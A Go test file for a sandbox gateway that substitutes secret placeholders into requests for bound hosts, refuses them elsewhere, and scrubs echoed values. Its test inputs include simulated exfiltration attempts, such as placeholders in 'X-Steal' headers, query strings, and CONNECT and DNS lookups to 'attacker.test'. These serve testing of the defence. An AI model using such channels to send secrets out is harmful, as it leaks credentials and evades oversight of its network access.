package gateway

import (
	"context"
	"encoding/base64"
	"errors"
	"io"
	"net"
	"net/http"
	"net/netip"
	"strings"
	"testing"
	"time"

	"github.com/litterbox-dev/litterbox/gateway/control"
	"github.com/litterbox-dev/litterbox/gateway/policy"
)

const (
	ghValue = "ghp_0123456789abcdefREAL"
	ghPH    = "litterbox-secret-github-k2j3h4g5f6d7s8a9q1w2e3r4t5"
	apiVal  = "sk-live-REALAPIKEY-42"
	apiPH   = "litterbox-secret-api-z9x8c7v6b5n4m3l2k1j0h9g8f7"
	subVal  = "npm_REALNPMTOKEN_777"
	subPH   = "litterbox-secret-npm-p0o9i8u7y6t5r4e3w2q1a2s3d4"
)

func testSecrets(t *testing.T) *secretSet {
	t.Helper()
	s, err := compileSecrets(control.Secrets{Secrets: []control.Secret{
		{Name: "github", Placeholder: ghPH, Value: ghValue, Hosts: []string{"github.com", "*.github.com"}, Basic: "x-access-token:{}"},
		{Name: "api", Placeholder: apiPH, Value: apiVal, Hosts: []string{"api.example.com"}, Header: "Authorization: Bearer {}"},
		{Name: "npm", Placeholder: subPH, Value: subVal, Hosts: []string{"registry.example.org:8443"}},
	}})
	if err != nil {
		t.Fatal(err)
	}
	return s
}

func b64(s string) string { return base64.StdEncoding.EncodeToString([]byte(s)) }

// TestRewrite: what the gateway does to a request for a host: the bound
// secrets' placeholders replaced (in Basic credentials too), their headers
// set, and any other secret's placeholder refused.
func TestRewrite(t *testing.T) {
	s := testSecrets(t)
	for _, tc := range []struct {
		name   string
		host   string
		port   int
		uri    string
		header http.Header
		// want is the header after, refused the secret refused.
		want    http.Header
		used    string
		refused string
	}{
		{name: "basic added for git", host: "github.com", port: 443, uri: "/o/r.git/info/refs?service=git-receive-pack",
			header: http.Header{"User-Agent": {"git/2.39"}},
			want:   http.Header{"User-Agent": {"git/2.39"}, "Authorization": {"Basic " + b64("x-access-token:"+ghValue)}}, used: "github"},
		{name: "basic replaces what the client sent", host: "api.github.com", port: 443, uri: "/user",
			header: http.Header{"Authorization": {"token " + ghPH}},
			want:   http.Header{"Authorization": {"Basic " + b64("x-access-token:"+ghValue)}}, used: "github"},
		{name: "header template", host: "api.example.com", port: 443, uri: "/v1/models",
			header: http.Header{"Accept": {"application/json"}},
			want:   http.Header{"Accept": {"application/json"}, "Authorization": {"Bearer " + apiVal}}, used: "api"},
		{name: "a header secret's placeholder elsewhere stays a placeholder", host: "api.example.com", port: 443, uri: "/v1",
			header: http.Header{"X-Title": {"see " + apiPH}},
			want:   http.Header{"X-Title": {"see " + apiPH}, "Authorization": {"Bearer " + apiVal}}, used: "api"},
		{name: "a basic secret's placeholder elsewhere stays a placeholder", host: "github.com", port: 443, uri: "/",
			header: http.Header{"User-Agent": {ghPH}},
			want:   http.Header{"User-Agent": {ghPH}, "Authorization": {"Basic " + b64("x-access-token:"+ghValue)}}, used: "github"},
		{name: "substitution in a header", host: "registry.example.org", port: 8443, uri: "/pkg",
			header: http.Header{"Authorization": {"Bearer " + subPH}, "X-Other": {"a " + subPH + " b"}},
			want:   http.Header{"Authorization": {"Bearer " + subVal}, "X-Other": {"a " + subVal + " b"}}, used: "npm"},
		{name: "substitution in Basic credentials (URL userinfo)", host: "registry.example.org", port: 8443, uri: "/pkg",
			header: http.Header{"Authorization": {"Basic " + b64("me:"+subPH)}},
			want:   http.Header{"Authorization": {"Basic " + b64("me:"+subVal)}}, used: "npm"},
		{name: "not bound on another port", host: "registry.example.org", port: 443, uri: "/pkg",
			header: http.Header{"Authorization": {"Bearer " + subPH}}, refused: "npm"},
		{name: "another secret's placeholder", host: "api.example.com", port: 443, uri: "/",
			header: http.Header{"X-Steal": {ghPH}}, refused: "github"},
		{name: "another secret's placeholder in Basic", host: "api.example.com", port: 443, uri: "/",
			header: http.Header{"Proxy-Thing": {"Basic " + b64("u:"+subPH)}}, refused: "npm"},
		{name: "another secret's placeholder in the path", host: "api.example.com", port: 443, uri: "/log?t=" + ghPH, refused: "github"},
		{name: "another secret's placeholder, upper-cased", host: "api.example.com", port: 443, uri: "/",
			header: http.Header{"X-Steal": {strings.ToUpper(ghPH)}}, refused: "github"},
		{name: "another secret's placeholder as a header name", host: "api.example.com", port: 443, uri: "/",
			header: http.Header{"X-" + ghPH: {"1"}}, refused: "github"},
		{name: "a host bound to nothing", host: "example.net", port: 443, uri: "/",
			header: http.Header{"Authorization": {"Bearer " + apiPH}}, refused: "api"},
		{name: "a host bound to nothing, no placeholder", host: "example.net", port: 443, uri: "/",
			header: http.Header{"Accept": {"*/*"}}, want: http.Header{"Accept": {"*/*"}}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			name, lit, _ := policy.NormalizeHost(tc.host)
			h := tc.header.Clone()
			if h == nil {
				h = http.Header{}
			}
			rw := s.rewrite(name, lit, tc.port, tc.uri, h)
			if tc.refused != "" {
				if rw.refused == nil || rw.refused.Name != tc.refused {
					t.Fatalf("refused %v, want %s", rw.refused, tc.refused)
				}
				return
			}
			if rw.refused != nil {
				t.Fatalf("refused by %s", rw.refused.Name)
			}
			if got := strings.Join(rw.used, ","); got != tc.used {
				t.Errorf("used %q, want %q", got, tc.used)
			}
			if len(h) != len(tc.want) {
				t.Errorf("header %v, want %v", h, tc.want)
			}
			for k, v := range tc.want {
				if strings.Join(h[k], "|") != strings.Join(v, "|") {
					t.Errorf("%s: %q, want %q", k, h[k], v)
				}
			}
			// What the response is scrubbed of turns every form of the
			// value sent back into the placeholder's.
			echo := strings.Join(h.Values("Authorization"), " ") + " " + h.Get("X-Other")
			if scrubbed := ReplaceAll(echo, rw.pairs...); strings.Contains(scrubbed, ghValue) || strings.Contains(scrubbed, apiVal) ||
				strings.Contains(scrubbed, subVal) || strings.Contains(scrubbed, b64("x-access-token:"+ghValue)) || strings.Contains(scrubbed, b64("me:"+subVal)) {
				t.Errorf("the scrubbed echo still holds a value: %q", scrubbed)
			}
		})
	}
}

// TestLeak: a plain HTTP request may carry no placeholder at all, not even
// to a bound host (it would travel unencrypted).
func TestLeak(t *testing.T) {
	s := testSecrets(t)
	for _, tc := range []struct {
		uri    string
		header http.Header
		want   string
	}{
		{"http://github.com/", http.Header{"Authorization": {"token " + ghPH}}, "github"},
		{"http://other.test/?q=" + apiPH, nil, "api"},
		{"http://other.test/", http.Header{"Authorization": {"Basic " + b64(subPH+":x")}}, "npm"},
		{"http://other.test/", http.Header{"Accept": {"*/*"}}, ""},
	} {
		got := s.leak(tc.uri, tc.header)
		if name := func() string {
			if got == nil {
				return ""
			}
			return got.Name
		}(); name != tc.want {
			t.Errorf("%s %v: %q, want %q", tc.uri, tc.header, name, tc.want)
		}
	}
}

// TestCompileSecrets: what the host sends is checked, and no error quotes
// a value.
func TestCompileSecrets(t *testing.T) {
	good := control.Secret{Name: "gh", Placeholder: ghPH, Value: ghValue, Hosts: []string{"github.com"}}
	for _, tc := range []struct {
		name string
		edit func(*control.Secret)
		want string
	}{
		{"no name", func(s *control.Secret) { s.Name = "" }, "no name"},
		{"a short placeholder", func(s *control.Secret) { s.Placeholder = "litterbox-secret-x" }, "placeholder"},
		{"a short value", func(s *control.Secret) { s.Value = "abc" }, "shorter than 8 bytes"},
		{"a value with a line break", func(s *control.Secret) { s.Value = ghValue + "\n" }, "control character"},
		{"no hosts", func(s *control.Secret) { s.Hosts = nil }, "no hosts"},
		{"a bad host", func(s *control.Secret) { s.Hosts = []string{"exa mple.com"} }, "exa mple.com"},
		{"header and basic", func(s *control.Secret) { s.Header, s.Basic = "X-A: {}", "u:{}" }, "both"},
		{"a header without {}", func(s *control.Secret) { s.Header = "Authorization: Bearer" }, "{}"},
		{"a header without a name", func(s *control.Secret) { s.Header = "Bearer {}" }, "Name: value"},
		{"basic without a colon", func(s *control.Secret) { s.Basic = "{}" }, "user:password"},
		{"a value holding the placeholder", func(s *control.Secret) { s.Value = "x" + ghPH }, "holds its placeholder"},
	} {
		s := good
		tc.edit(&s)
		_, err := compileSecrets(control.Secrets{Secrets: []control.Secret{s}})
		if err == nil || !strings.Contains(err.Error(), tc.want) {
			t.Errorf("%s: %v, want %q", tc.name, err, tc.want)
			continue
		}
		if strings.Contains(err.Error(), ghValue) || strings.Contains(err.Error(), "abc") && s.Value == "abc" {
			t.Errorf("%s: the error quotes the value: %v", tc.name, err)
		}
	}
	dup := good
	dup.Placeholder = apiPH
	if _, err := compileSecrets(control.Secrets{Secrets: []control.Secret{good, dup}}); err == nil || !strings.Contains(err.Error(), "twice") {
		t.Errorf("a name twice: %v", err)
	}
	clash := []control.Secret{
		{Name: "a", Placeholder: ghPH, Value: ghValue, Hosts: []string{"api.example.com"}, Header: "Authorization: Bearer {}"},
		{Name: "b", Placeholder: apiPH, Value: apiVal, Hosts: []string{"api.example.com"}, Basic: "u:{}"},
	}
	if _, err := compileSecrets(control.Secrets{Secrets: clash}); err == nil || !strings.Contains(err.Error(), "both set Authorization") {
		t.Errorf("two secrets setting one header of one host: %v", err)
	}
	if _, err := compileSecrets(control.Secrets{Roots: []string{"not a PEM"}}); err == nil || !strings.Contains(err.Error(), "root") {
		t.Errorf("a bad root: %v", err)
	}
}

// TestBoundTo: which secrets a target is bound to, by name, wildcard, port
// and address.
func TestBoundTo(t *testing.T) {
	s := testSecrets(t)
	for _, tc := range []struct {
		host string
		port int
		want string
	}{
		{"github.com", 443, "github"},
		{"codeload.github.com", 443, "github"},
		{"github.com", 8443, ""},
		{"registry.example.org", 8443, "npm"},
		{"registry.example.org", 443, ""},
		{"example.com", 443, ""},
	} {
		name, lit, _ := policy.NormalizeHost(tc.host)
		var got []string
		for _, b := range s.boundTo(name, lit, tc.port) {
			got = append(got, b.Name)
		}
		if strings.Join(got, ",") != tc.want {
			t.Errorf("%s:%d: %v, want %q", tc.host, tc.port, got, tc.want)
		}
	}
	_ = netip.Addr{}
}

// TestLeakRefused: a plain request carrying a placeholder (to any host,
// a bound one too: unencrypted), and a CONNECT or DNS query naming one,
// are refused and recorded as exfiltration attempts, naming the secret.
func TestLeakRefused(t *testing.T) {
	g := &Gateway{Audit: NewAudit(100, nil), Resolver: failResolver{}}
	if err := g.SetPolicy(policy.Policy{Sandbox: "alpha", Mode: policy.ModeOpen}); err != nil {
		t.Fatal(err)
	}
	if _, err := g.SetSecrets(control.Secrets{Secrets: testSecretList}); err != nil {
		t.Fatal(err)
	}
	for _, tc := range []struct{ req, status, reason string }{
		{"GET http://other.test/ HTTP/1.1\r\nHost: other.test\r\nAuthorization: Bearer " + apiPH + "\r\n\r\n",
			"403 Forbidden: litterbox refused the placeholder of secret api for other.test:80", "sent to other.test:80, a host it is not bound to"},
		{"GET http://api.example.com/ HTTP/1.1\r\nHost: api.example.com\r\nX-Key: " + apiPH + "\r\n\r\n",
			"403 Forbidden: litterbox refused the placeholder of secret api for api.example.com:80", "which would carry it unencrypted"},
		{"CONNECT " + ghPH + ".attacker.test:443 HTTP/1.1\r\nHost: x\r\n\r\n",
			"403 Forbidden: litterbox refused the placeholder of secret github", "in the name of the host"},
	} {
		c, s := net.Pipe()
		go g.ServeConn(s)
		go func() { _, _ = io.WriteString(c, tc.req) }()
		_ = c.SetDeadline(time.Now().Add(5 * time.Second))
		resp, _ := io.ReadAll(c)
		c.Close()
		if !strings.Contains(string(resp), tc.status) || !strings.Contains(string(resp), "The attempt is recorded") {
			t.Errorf("%q: %q", tc.req, resp)
		}
		recs := g.Audit.Since("", 0, 100).Records
		last := recs[len(recs)-1]
		if last.Allowed || !strings.Contains(last.Reason, "exfiltration attempt") || !strings.Contains(last.Reason, tc.reason) || last.Secret == "" {
			t.Errorf("%q: recorded %+v", tc.req, last)
		}
	}
	q := query(7, ghPH+".attacker.test", 1)
	if _, ok := g.answerDNS(q); !ok {
		t.Fatal("no answer")
	}
	recs := g.Audit.Since("", 0, 100).Records
	if last := recs[len(recs)-1]; last.Kind != "dns" || last.Secret != "github" || !strings.Contains(last.Reason, "exfiltration attempt") {
		t.Errorf("dns: %+v", last)
	}
}

var testSecretList = []control.Secret{
	{Name: "github", Placeholder: ghPH, Value: ghValue, Hosts: []string{"github.com", "*.github.com"}, Basic: "x-access-token:{}"},
	{Name: "api", Placeholder: apiPH, Value: apiVal, Hosts: []string{"api.example.com"}, Header: "Authorization: Bearer {}"},
}

type failResolver struct{}

func (failResolver) LookupNetIP(context.Context, string, string) ([]netip.Addr, error) {
	return nil, errors.New("no resolver in this test")
}

// TestScrubPrefixValue: when one secret's value begins another's, an
// answer that echoes the longer one shows the sandbox its placeholder, not
// the shorter one's placeholder and the rest of the longer value, whatever
// order the secrets come in.
func TestScrubPrefixValue(t *testing.T) {
	const shortVal, longVal = "tok_ABCDEF", "tok_ABCDEF_more_secret_part"
	shortPH, longPH := "litterbox-secret-short-a1b2c3d4e5f6g7h8i9j0", "litterbox-secret-long-k1l2m3n4o5p6q7r8s9t0u1"
	short := control.Secret{Name: "short", Placeholder: shortPH, Value: shortVal, Hosts: []string{"a.example.com"}}
	long := control.Secret{Name: "long", Placeholder: longPH, Value: longVal, Hosts: []string{"b.example.com"}}
	for _, order := range [][]control.Secret{{short, long}, {long, short}} {
		s, err := compileSecrets(control.Secrets{Secrets: order})
		if err != nil {
			t.Fatal(err)
		}
		echo := "you sent " + longVal + " and " + shortVal
		want := "you sent " + longPH + " and " + shortPH
		if got := ReplaceAll(echo, s.pairs...); got != want {
			t.Errorf("%s first: ReplaceAll = %q, want %q", order[0].Name, got, want)
		}
		if got := ScrubText(echo, s.pairs...); got != want {
			t.Errorf("%s first: ScrubText = %q, want %q", order[0].Name, got, want)
		}
		sc, err := NewScrubber(strings.NewReader(echo), s.pairs...)
		if err != nil {
			t.Fatal(err)
		}
		if got, _ := io.ReadAll(sc); string(got) != want {
			t.Errorf("%s first: Scrubber = %q, want %q", order[0].Name, got, want)
		}
	}
}
